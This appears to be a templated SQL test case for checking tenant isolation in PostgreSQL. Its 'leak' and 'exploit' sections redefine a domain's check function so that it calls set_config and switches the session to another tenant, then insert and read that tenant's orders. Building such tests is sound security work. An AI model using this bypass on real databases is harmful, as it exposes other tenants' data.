-- The check of a domain sets the tenant: a cast is enough, or a row that is written.
-- object: public.trimmed
-- object: public.orders
-- base: integer
--- setup
CREATE SCHEMA tools;
GRANT USAGE ON SCHEMA tools TO {app};
CREATE FUNCTION tools.accept(value text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT value = btrim(value) $$;
CREATE DOMAIN trimmed AS text CHECK (tools.accept(VALUE));
ALTER TABLE orders ADD tag trimmed;
--- leak
CREATE OR REPLACE FUNCTION tools.accept(value text) RETURNS boolean LANGUAGE sql IMMUTABLE
    AS $$ SELECT set_config('myapp.org', '{B}', true) IS NOT NULL $$;
--- twin
SELECT 1;
--- exploit
INSERT INTO orders (id, org_id, number, tag) VALUES (9001, {B}, 'planted', 'x');
SELECT * FROM orders WHERE org_id = {B};
